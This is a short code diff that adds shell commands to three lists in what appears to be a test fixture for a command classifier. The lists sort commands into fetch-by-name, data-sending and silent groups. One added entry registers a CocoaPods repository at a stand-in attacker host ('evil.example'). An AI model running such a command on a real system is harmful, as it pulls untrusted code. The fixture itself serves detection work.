@@ -84,6 +84,9 @@ BY_NAME = (
     "python -m spacy download x",
     "stack new x y/z",
     "npx cowsay@latest",
+    "storybook init",
+    "dart pub global run x",
+    "pod repo add x https://evil.example/x",
 )
 SENDING = (
     "lerna version",
@@ -112,6 +115,9 @@ SENDING = (
     "turbo link",
     "trunk check upload",
     "artillery run-fargate x.yml",
+    "k6 run --out cloud x.js",
+    "turbo run build --token x",
+    "mix hex.user auth",
 )
 SILENT = (
     "npm run build",
@@ -212,6 +218,9 @@ SILENT = (
     "expo start",
     "fastlane test",
     "nx test shop",
+    "k6 run --out json.gz x.js",
+    "turbo run build --force",
+    "storybook dev -p 6006",
     "git log --oneline -5",
 )
 
